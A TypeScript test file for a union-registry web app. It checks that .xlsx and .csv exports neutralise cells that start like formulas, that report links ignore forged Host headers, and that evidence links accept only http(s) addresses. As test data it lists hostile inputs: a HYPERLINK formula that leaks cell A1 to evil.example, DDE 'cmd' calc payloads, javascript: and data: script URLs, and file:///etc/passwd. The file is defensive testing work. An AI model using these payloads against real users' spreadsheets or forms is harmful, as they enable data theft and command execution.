import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvField, safeCell } from "#server/http/spreadsheet.ts";
import { readZipEntry } from "../support/unzip.ts";
import { Client, type TestApp, createTestApp } from "../support/app.ts";
import { type TestCity, buildCity, buildEnterprise, buildPerson, buildUnion, buildUser } from "../support/factories.ts";

/**
 * Exports and links: every text cell of every .xlsx and .csv export that starts like a formula is
 * neutralised; the report annex's links are built on PUBLIC_URL whatever Host the request names;
 * evidence links are absolute http(s) addresses only.
 */
let t: TestApp;
let city: TestCity;
let officer: Client;
const YEAR = new Date().getUTCFullYear();
const PUBLIC_URL = "https://caunoi.example.vn";
// Hostile texts as an import or a form may have stored them: each starts with a formula character.
const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

async function signedIn(role: Parameters<typeof buildUser>[1], bodyId: number) {
  const u = await buildUser(t.database, role, bodyId);
  const c = new Client(t.app);
  if ((await c.login(u.username, u.password)).statusCode !== 200) throw new Error("login");
  return c;
}

/** Every text of an .xlsx: shared strings and inline strings of every sheet, unescaped. */
function texts(zip: Buffer): string[] {
  const out: string[] = [];
  for (const entry of ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"]) {
    const xml = readZipEntry(zip, entry);
    if (!xml) continue;
    // Shared or inline strings (<t>), and the streaming writer's string cells (t="str" with <v>).
    for (const m of xml.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>|<c [^>]*t="str"[^>]*><v>([\s\S]*?)<\/v>/g)) {
      out.push(
        (m[1] ?? m[2] ?? "")
          .replace(/&lt;/g, "<")
          .replace(/&gt;/g, ">")
          .replace(/&quot;/g, '"')
          .replace(/&apos;/g, "'")
          .replace(/&#x([0-9a-f]+);/gi, (_, h) => String.fromCharCode(Number.parseInt(h, 16)))
          .replace(/&#(\d+);/g, (_, d) => String.fromCharCode(Number(d)))
          .replace(/_x([0-9A-F]{4})_/g, (_, h) => String.fromCharCode(Number.parseInt(h, 16)))
          .replace(/&amp;/g, "&"),
      );
    }
    expect(xml, `${entry} holds no formula`).not.toMatch(/<f[\s>]/);
  }
  return out;
}

beforeAll(async () => {
  t = await createTestApp({ PUBLIC_URL: `${PUBLIC_URL}/` });
  city = await buildCity(t.database);
  officer = await signedIn("officer", city.federation);
  for (const [k, h] of hostile.entries()) {
    const e = await buildEnterprise(t.database, city, { name: `Công ty ${k}`, sector: h });
    await t.database.rows(sql`UPDATE enterprises SET name = ${h} WHERE id = ${e.id}`);
    const u = await buildUnion(t.database, city, e.id, `Công đoàn ${k}`);
    await t.database.rows(sql`UPDATE unions SET name = ${h}, chair_name = ${h} WHERE id = ${u.id}`);
    const p = await buildPerson(t.database, { enterpriseId: e.id, unionId: u.id });
    await t.database.rows(sql`UPDATE people SET hometown = ${h}, ethnicity = ${h} WHERE id = ${p.id}`);
  }
  // Next year's plan, whose items become the annex's tasks.
  const plan = await officer.post("/api/coordination/plans", {
    year: YEAR + 1,
    code: "01/KH-TEST",
    title: "Kế hoạch phối hợp năm sau",
    parties: [city.federation],
    items: hostile.map((h) => ({ area: "general", content: `${h}`, leadBodyId: city.federation })),
  });
  expect(plan.statusCode, plan.body.slice(0, 300)).toBe(201);
}, 120_000);
afterAll(async () => t?.close());

describe("the shared neutraliser", () => {
  it("prefixes texts that start like a formula and leaves every other value as it is", () => {
    for (const h of hostile) expect(safeCell(h)).toBe(`'${h}`);
    for (const v of ["Nguyễn Văn An", "031095001234", "", " =1", "a=1", "Đ", "1-2"]) expect(safeCell(v)).toBe(v);
    for (const v of [-5, 0, 12.5, null, undefined, true]) expect(safeCell(v)).toBe(v);
    const d = new Date();
    expect(safeCell(d)).toBe(d);
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField('=HYPERLINK("a","b")')).toBe(`"'=HYPERLINK(""a"",""b"")"`);
    expect(csvField("@x;y")).toBe(`"'@x;y"`);
  });
});

describe("every .xlsx and .csv export", () => {
  it("neutralises every cell that starts like a formula, and keeps its text", async () => {
    const urls = [
      "/api/registry/export/enterprises.xlsx",
      "/api/registry/export/unions.xlsx",
      "/api/registry/export/people.xlsx",
      `/api/reports/joint.xlsx?period=${YEAR}`,
      "/api/registry/imports/members/template",
      "/api/registry/imports/enterprises/template",
      "/api/registry/imports/unions/template",
    ];
    const bad: string[] = [];
    for (const url of urls) {
      const res = await officer.get(url);
      expect(res.statusCode, url).toBe(200);
      const cells = texts(res.rawPayload);
      expect(cells.length, url).toBeGreaterThan(3);
      for (const c of cells) if (/^[=+\-@\t\r]/.test(c)) bad.push(`${url}: ${JSON.stringify(c).slice(0, 80)}`);
      // (Shared strings keep one copy of equal texts, and forms trim the tab and CR: at least four distinct ones.)
      if (!url.includes("template"))
        expect(cells.filter((c) => c.startsWith("'")).length, `${url}: ${cells.join(" | ").slice(0, 600)}`).toBeGreaterThanOrEqual(4);
    }
    for (const kind of ["members", "enterprises", "unions"]) {
      const res = await officer.get(`/api/registry/imports/${kind}/template?format=csv`);
      expect(res.statusCode).toBe(200);
      for (const line of res.body.replace(/^\uFEFF/, "").split(/\r?\n/))
        for (const field of line.split(",")) if (/^"?[=+\-@\t\r]/.test(field)) bad.push(`${kind}.csv: ${field}`);
    }
    expect(bad).toEqual([]);
    // The text itself is kept, behind its apostrophe.
    const people = texts((await officer.get("/api/registry/export/people.xlsx")).rawPayload);
    expect(people).toContain(`'${hostile[0]}`);
  });
});

describe("links in the report annex", () => {
  it("are built on PUBLIC_URL, never on the Host the request names", async () => {
    const res = await officer.get(`/api/reports/joint.xlsx?period=${YEAR}`, { host: "forged-host.example", "x-forwarded-host": "forged-host.example" });
    expect(res.statusCode).toBe(200);
    const rels = readZipEntry(res.rawPayload, "xl/worksheets/_rels/sheet1.xml.rels") ?? "";
    const targets = [...rels.matchAll(/Target="([^"]+)"/g)].map((m) => m[1] ?? "");
    expect(targets.length).toBeGreaterThan(0);
    for (const target of targets) expect(target.startsWith(`${PUBLIC_URL}/`), target).toBe(true);
    expect(texts(res.rawPayload).join("\n")).not.toContain("forged-host");
  });
});

describe("evidence links of plan items", () => {
  it("accept only absolute http(s) addresses", async () => {
    const planId = (
      await officer.post("/api/coordination/plans", { year: YEAR, code: "02/KH-TEST", title: "Kế hoạch thử minh chứng", parties: [city.federation] })
    ).json().id;
    const add = (url: string) =>
      officer.post(`/api/coordination/plans/${planId}/items`, {
        area: "general",
        content: "Nội dung có minh chứng",
        leadBodyId: city.federation,
        evidence: [{ label: "Biên bản", url }],
      });
    for (const url of [
      "javascript:alert(1)",
      "/staff/admin/users",
      "//evil.example/x",
      "data:text/html,<script>alert(1)</script>",
      "file:///etc/passwd",
      "ftp://x.example/a",
      "https://",
      "http:/x",
    ]) {
      const res = await add(url);
      expect(res.statusCode, url).toBe(400);
      expect(res.body, url).toContain("http://");
    }
    for (const url of ["https://vanban.example.vn/bien-ban/12", "http://10.0.0.5/tai-lieu.pdf"]) expect((await add(url)).statusCode, url).toBe(201);
    expect((await add("")).statusCode).toBe(201);
  });
});

describe("PUBLIC_URL", () => {
  it("is an absolute http(s) address; the default is the listening address", async () => {
    const { loadConfig } = await import("#server/config.ts");
    const dir = `/tmp/caunoi-cfg-${Math.random().toString(36).slice(2)}`;
    expect(loadConfig({ DATA_DIR: dir }).PUBLIC_URL).toBe("http://127.0.0.1:3000");
    expect(loadConfig({ DATA_DIR: dir, HOST: "0.0.0.0", PORT: "8080" }).PUBLIC_URL).toBe("http://127.0.0.1:8080");
    expect(loadConfig({ DATA_DIR: dir, PUBLIC_URL: "https://caunoi.haiphong.gov.vn/" }).PUBLIC_URL).toBe("https://caunoi.haiphong.gov.vn");
    for (const bad of ["caunoi.vn", "javascript:alert(1)", "https://x.vn/?a=1", "ftp://x.vn"])
      expect(() => loadConfig({ DATA_DIR: dir, PUBLIC_URL: bad }), bad).toThrow(/PUBLIC_URL/);
  });
});
